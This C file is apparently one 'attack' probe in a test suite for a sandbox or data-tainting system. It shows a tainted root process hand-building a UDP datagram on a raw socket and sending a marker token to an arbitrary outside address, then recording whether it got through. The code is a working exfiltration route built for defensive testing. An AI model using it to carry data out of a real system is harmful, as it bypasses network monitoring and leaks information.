/* raw_inet.c - attack: a tainted root process hand-builds a UDP datagram on a SOCK_RAW socket and sends it to a third party. */
#include <netinet/udp.h>

#include "attack.h"

#define ROUTE "raw_inet"

int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	struct sockaddr_in *dst = (struct sockaddr_in *)&ss;
	unsigned char pkt[256];
	struct udphdr *udp = (struct udphdr *)pkt;
	socklen_t len;
	size_t n;
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " CAMERA A.B.C.D:PORT\n");
		return 2;
	}
	at_taint(ROUTE, argv[1]);
	at_need_inet(ROUTE, argv[2], &ss, &len);
	if (ss.ss_family != AF_INET) {
		at_result(ROUTE, "error", "IPv4 targets only");
		return 1;
	}
	/* Needs CAP_NET_RAW: the runner is root, as a vendor's camera daemon often is. */
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
	if (fd < 0)
		return at_report_errno(ROUTE, "socket(SOCK_RAW)", errno);
	n = sizeof(*udp) + at_token((char *)pkt + sizeof(*udp), sizeof(pkt) - sizeof(*udp), ROUTE);
	udp->uh_sport = htons(40000);
	udp->uh_dport = dst->sin_port;
	udp->uh_ulen = htons((unsigned short)n);
	udp->uh_sum = 0;	/* no checksum: legal for UDP over IPv4 */
	/* The kernel writes the IP header; the port field of the address means nothing to a raw socket. */
	dst->sin_port = 0;
	if (sendto(fd, pkt, n, 0, (struct sockaddr *)dst, sizeof(*dst)) != (ssize_t)n)
		return at_report_errno(ROUTE, "sendto(SOCK_RAW)", errno);
	at_result(ROUTE, "through", "raw UDP datagram: %zu bytes", n);
	return 0;
}
